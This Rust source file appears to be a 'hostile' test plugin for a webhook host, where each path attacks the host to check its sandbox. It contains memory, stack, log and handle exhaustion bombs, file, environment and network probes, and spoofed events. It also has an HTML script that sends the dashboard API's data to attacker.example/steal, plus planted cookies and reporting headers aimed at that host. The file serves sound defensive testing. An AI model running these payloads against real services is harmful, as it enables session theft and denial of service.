//! Test plugin `hostile`: each webhook path is one attack on the host. Contract:
//! every attack ends the call (with the status the host gives that failure) or is
//! refused by the sandbox, and the host and its other plugins carry on.
//!
//! - `/ok`: 200 `ok`, no events (to show the plugin itself still works).
//! - `/spin`: an endless loop; only the call deadline ends it (504).
//! - `/memory-bomb`: grows memory without bound; the memory limit traps it (500).
//! - `/recursion`: unbounded recursion; a stack overflow traps it (500).
//! - `/trap`: an `unreachable` trap (500), every time it is called.
//! - `/huge-response`: a response body of `x-bytes` bytes (default 32 MiB) (500
//!   above `max_response_bytes`).
//! - `/huge-event`: one event whose payload is `x-bytes` bytes of JSON (500 above
//!   `max_event_bytes`).
//! - `/log-flood`: `x-count` (default 100,000) lines through `log` and as many to
//!   stdout, then 200.
//! - `/invalid-utf8`: an event payload that is not UTF-8 (500: the host refuses to
//!   lift it).
//! - `/bad-json`: an event payload that is not JSON (500).
//! - `/probe`: tries to read the file named by `x-file`, list `/` and `.`, read the
//!   environment, connect to `x-connect` (`127.0.0.1:PORT`) over TCP and UDP,
//!   resolve `localhost`, and read config keys named by `x-config` (comma
//!   separated). Answers 200 with one line per attempt: `<what> denied` or
//!   `<what> GOT <what it got>`.
//! - `/leftover`: looks for what an earlier call wrote, then writes it: a marker
//!   in zero-initialised memory, a page of initialised data overwritten, and a
//!   MiB of memory grown and filled. Answers 200 `marker M changed-data D grown G`
//!   (non-zero bytes found in the grown MiB); a fresh instance answers `marker 0
//!   changed-data 0 grown 0` every time, however its memory is initialised.
//! - `/emit`: 200 `emitted` and one event (id from `x-id`, default `1`) whose kind is
//!   the `x-kind` header, passing it off as another plugin's when that kind is not
//!   `hostile.*` (500: the host refuses kinds outside the manifest's `emits`, and
//!   stores nothing).
//! - `/html-cookie`: 200 `text/html` with a `<script>` that reads the dashboard's
//!   API, and every header that would let it act in the host's origin or outlive
//!   the response: `Set-Cookie: hookhost_session=planted`, `Clear-Site-Data`,
//!   `Strict-Transport-Security`, `Alt-Svc`, `NEL` with `Report-To`, a
//!   `WWW-Authenticate` prompt, its own loose `Content-Security-Policy`,
//!   `X-Content-Type-Options: sniff`, and a `Content-Length: 1` that would cut the
//!   body short; plus `x-plugin: kept`, which a host may pass on. The body is
//!   `HTML_COOKIE_BODY`, whole.
//! - `/echo-request`: 200 JSON `{"method", "path", "query", "headers": [[name,
//!   value], ...]}`, exactly the request the plugin was handed, and one event
//!   `hostile.echo` (id from `x-id`, default `echo`) with the same JSON, so that the
//!   stored raw request can be looked at too.
//!
//! Attacks on host memory (`host_memory`), each repeated `x-count` times (default
//! 100,000) and answered 200 `held ...` only if the host let it finish:
//! - `/http-body-bomb`: outgoing request bodies filled to check-write, never sent.
//! - `/response-body-bomb`: the same with `outgoing-response` bodies.
//! - `/trailers-bomb`: request bodies finished with full trailers.
//! - `/fields-bomb`: `fields` of 56 KiB each (just under the host's size limit).
//! - `/headers-view-bomb`: full headers kept through a dropped request's view.
//! - `/request-strings-bomb`: requests with a 1 MiB authority and method.
//! - `/handle-bomb`: pollables and request options until the resource table is full.
//! - `/in-flight-bomb`: requests to `x-target` (`host:port`), all in flight at once.
//! - `/received-headers-bomb`: requests to `x-target` one at a time, each response
//!   kept (with its headers) after its body is dropped.
//! - `/stdout-bomb`: `x-count` MiB (default 64) to stdout without a newline, then 200.
//! - `poll`: when its config has `poll-interval-seconds`, `describe` asks to be
//!   polled that often; the first poll answers cursor `armed`, every later one
//!   stages 1,000 `state` values of 64 KiB and then `poll-deletes` (config,
//!   default 10,000,000) deletes of distinct keys, and fails if it gets that far.

mod host_memory;

use std::fmt::Write as _;

use hookhost_sdk::prelude::*;

struct Hostile;

/// The body `/html-cookie` answers with: a page that would use the dashboard's
/// session if it ran in the host's origin.
const HTML_COOKIE_BODY: &str = "<!doctype html><title>hostile</title><script>\
fetch('/api/events',{credentials:'include'}).then(r=>r.text()).then(t=>\
fetch('http://attacker.example/steal',{method:'POST',body:t}))</script>";

fn html_cookie() -> WebhookOutcome {
    let headers = [
        ("Content-Type", "text/html; charset=utf-8"),
        ("Set-Cookie", "hookhost_session=planted; Path=/; HttpOnly"),
        ("set-cookie", "tracker=1; Path=/; Domain=localhost"),
        ("Clear-Site-Data", "\"cookies\", \"storage\""),
        ("Strict-Transport-Security", "max-age=31536000; includeSubDomains"),
        ("Alt-Svc", "h2=\"attacker.example:443\"; ma=86400"),
        ("NEL", "{\"report_to\":\"steal\",\"max_age\":86400,\"include_subdomains\":true}"),
        ("Report-To", "{\"group\":\"steal\",\"max_age\":86400,\"endpoints\":[{\"url\":\"http://attacker.example/r\"}]}"),
        ("WWW-Authenticate", "Basic realm=\"hookhost admin token\""),
        ("Content-Security-Policy", "script-src * 'unsafe-inline'"),
        ("X-Content-Type-Options", "sniff"),
        ("Content-Length", "1"),
        ("x-plugin", "kept"),
    ];
    WebhookOutcome {
        response: HttpResponse {
            status: 200,
            headers: headers
                .iter()
                .map(|(name, value)| (name.to_string(), value.to_string()))
                .collect(),
            body: HTML_COOKIE_BODY.as_bytes().to_vec(),
        },
        events: vec![],
    }
}

fn echo_request(request: &WebhookRequest) -> WebhookOutcome {
    let echo = serde_json::json!({
        "method": request.method,
        "path": request.path,
        "query": request.query,
        "headers": request.headers,
    })
    .to_string();
    let id = request.header("x-id").unwrap_or("echo");
    let event = Event::new(id, "hostile.echo", echo.clone());
    WebhookOutcome {
        response: HttpResponse::json(200, echo),
        events: vec![event],
    }
}

fn respond(body: Vec<u8>, events: Vec<Event>) -> WebhookOutcome {
    WebhookOutcome {
        response: HttpResponse::text(200, body),
        events,
    }
}

/// The `x-target` header: where an attack sends its requests.
fn target(request: &WebhookRequest) -> Result<&str, PluginError> {
    request
        .header("x-target")
        .ok_or_else(|| PluginError::BadRequest("no x-target".into()))
}

/// 200 with what an attack held: the host let it finish.
fn held(report: String) -> Result<WebhookOutcome, PluginError> {
    Ok(respond(report.into_bytes(), vec![]))
}

fn event(payload: String) -> Event {
    Event::new("1", "hostile.event", payload)
}

#[inline(never)]
fn recurse(depth: u64) -> u64 {
    // A frame the optimiser cannot fold into a loop, and an exit it cannot prove
    // is never taken.
    if std::hint::black_box(depth) == u64::MAX {
        return 0;
    }
    let frame = std::hint::black_box([depth; 64]);
    recurse(depth + 1).wrapping_add(frame[(depth % 64) as usize])
}

fn probe(request: &WebhookRequest) -> String {
    let mut report = String::new();
    let mut line = |what: &str, got: Result<String, String>| {
        let _ = match got {
            Ok(got) => writeln!(report, "{what} GOT {got}"),
            Err(_) => writeln!(report, "{what} denied"),
        };
    };
    if let Some(file) = request.header("x-file") {
        line(
            "read-file",
            std::fs::read_to_string(file).map_err(|e| e.to_string()),
        );
    }
    for dir in ["/", "."] {
        line(
            &format!("list-dir {dir}"),
            std::fs::read_dir(dir)
                .map(|entries| format!("{} entries", entries.count()))
                .map_err(|e| e.to_string()),
        );
    }
    let vars: Vec<String> = std::env::vars().map(|(k, _)| k).collect();
    line(
        "env",
        if vars.is_empty() {
            Err("empty".into())
        } else {
            Ok(vars.join(","))
        },
    );
    if let Some(target) = request.header("x-connect") {
        line(
            "tcp-connect",
            std::net::TcpStream::connect(target)
                .map(|_| "connected".into())
                .map_err(|e| e.to_string()),
        );
        line(
            "udp-send",
            std::net::UdpSocket::bind("0.0.0.0:0")
                .and_then(|socket| socket.send_to(b"hello", target))
                .map(|n| format!("sent {n}"))
                .map_err(|e| e.to_string()),
        );
    }
    line(
        "resolve",
        std::net::ToSocketAddrs::to_socket_addrs("localhost:80")
            .map(|addrs| format!("{:?}", addrs.collect::<Vec<_>>()))
            .map_err(|e| e.to_string()),
    );
    for key in request.header("x-config").unwrap_or_default().split(',') {
        if !key.is_empty() {
            line(
                &format!("config {key}"),
                config::get(key).ok_or_else(|| "unset".to_string()),
            );
        }
    }
    report
}

impl Plugin for Hostile {
    fn describe() -> Manifest {
        Manifest {
            poll_interval_seconds: config::get("poll-interval-seconds")
                .and_then(|s| s.parse().ok()),
            ..Manifest::new("Hostile", "1", "attacks the host, for tests").emits(["hostile.*"])
        }
    }

    fn handle_webhook(request: WebhookRequest) -> Result<WebhookOutcome, PluginError> {
        let number = |name: &str, default: usize| {
            request
                .header(name)
                .and_then(|v| v.parse().ok())
                .unwrap_or(default)
        };
        match request.path.as_str() {
            "/ok" => Ok(respond(b"ok".to_vec(), vec![])),
            "/spin" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "/memory-bomb" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    let mut chunk = vec![0u8; 1 << 20];
                    chunk[0] = 1; // touch it so it is really there
                    hoard.push(std::hint::black_box(chunk));
                }
            }
            "/recursion" => Ok(respond(recurse(0).to_string().into_bytes(), vec![])),
            "/trap" => core::arch::wasm32::unreachable(),
            "/huge-response" => Ok(respond(vec![b'x'; number("x-bytes", 32 << 20)], vec![])),
            "/huge-event" => {
                let bytes = number("x-bytes", 32 << 20).max(2);
                let payload = format!("\"{}\"", "x".repeat(bytes - 2));
                Ok(respond(b"ok".to_vec(), vec![event(payload)]))
            }
            "/log-flood" => {
                let line = "flood ".repeat(20);
                for i in 0..number("x-count", 100_000) {
                    log::log(log::Level::Info, &format!("{i} {line}"));
                    println!("{i} {line}");
                }
                Ok(respond(b"flooded".to_vec(), vec![]))
            }
            "/invalid-utf8" => {
                // A `string` that is not UTF-8 breaks the component-model contract;
                // the host must refuse it rather than store it.
                #[allow(unsafe_code)]
                let payload = unsafe { String::from_utf8_unchecked(vec![b'"', 0xff, 0xfe, b'"']) };
                Ok(respond(b"ok".to_vec(), vec![event(payload)]))
            }
            "/bad-json" => Ok(respond(
                b"ok".to_vec(),
                vec![event("{\"unclosed\": ".into())],
            )),
            "/probe" => Ok(respond(probe(&request).into_bytes(), vec![])),
            "/leftover" => Ok(respond(leftover().into_bytes(), vec![])),
            "/emit" => {
                let spoofed = Event::new(
                    request.header("x-id").unwrap_or("1"),
                    request.header("x-kind").unwrap_or("hostile.event"),
                    "{\"spoofed\":true}",
                );
                Ok(respond(b"emitted".to_vec(), vec![spoofed]))
            }
            "/html-cookie" => Ok(html_cookie()),
            "/echo-request" => Ok(echo_request(&request)),
            "/http-body-bomb" => held(host_memory::request_bodies(number("x-count", 100_000))),
            "/response-body-bomb" => held(host_memory::response_bodies(number("x-count", 100_000))),
            "/trailers-bomb" => held(host_memory::trailers(number("x-count", 100_000))),
            "/fields-bomb" => held(host_memory::fields(number("x-count", 100_000))),
            "/headers-view-bomb" => held(host_memory::header_views(number("x-count", 100_000))),
            "/request-strings-bomb" => {
                held(host_memory::request_strings(number("x-count", 100_000)))
            }
            "/handle-bomb" => held(host_memory::handles(number("x-count", 100_000))),
            "/in-flight-bomb" => held(host_memory::in_flight(
                number("x-count", 100_000),
                target(&request)?,
            )),
            "/received-headers-bomb" => held(host_memory::received_headers(
                number("x-count", 100_000),
                target(&request)?,
            )),
            "/stdout-bomb" => held(host_memory::stdout_without_newline(number("x-count", 64))),
            other => Err(PluginError::BadRequest(format!("unknown path {other}"))),
        }
    }

    fn poll(cursor: Option<String>) -> Result<PollOutcome, PluginError> {
        if config::get("poll-interval-seconds").is_none() {
            return Err(PluginError::Internal("hostile does not poll".into()));
        }
        if cursor.is_none() {
            return Ok(PollOutcome::new(vec![], Some("armed".into())));
        }
        let deletes = config::get("poll-deletes")
            .and_then(|n| n.parse().ok())
            .unwrap_or(10_000_000);
        let report = host_memory::staged_state(deletes)
            .map_err(|e| PluginError::Internal(format!("state refused: {e:?}")))?;
        Err(PluginError::Internal(report))
    }
}

hookhost_sdk::export!(Hostile);

/// See `/leftover` in the module doc.
fn leftover() -> String {
    use std::sync::atomic::{AtomicU32, Ordering};
    static MARKER: AtomicU32 = AtomicU32::new(0);
    // Initialised data the component ships (a data segment), not zeroes.
    static mut DATA: [u8; 4096] = [0x5a; 4096];
    const GROWN_PAGES: usize = 16;

    let marker = MARKER.swap(1, Ordering::Relaxed);
    // SAFETY: one call at a time runs in an instance (no threads in wasm32-wasip2).
    let data = unsafe { &mut *core::ptr::addr_of_mut!(DATA) };
    let changed_data = data.iter().filter(|byte| **byte != 0x5a).count();
    data.fill(0);
    // Memory beyond the component's initial size, which the allocator never hands
    // out: it grew it and the pages are this function's alone.
    let grown = match core::arch::wasm32::memory_grow(0, GROWN_PAGES) {
        usize::MAX => return "memory.grow failed".into(),
        first_page => {
            // SAFETY: the pages were just added to the memory and nothing else
            // refers to them.
            let pages = unsafe {
                std::slice::from_raw_parts_mut((first_page * 65536) as *mut u8, GROWN_PAGES * 65536)
            };
            let found = pages.iter().filter(|byte| **byte != 0).count();
            pages.fill(0xa5);
            found
        }
    };
    format!("marker {marker} changed-data {changed_data} grown {grown}")
}
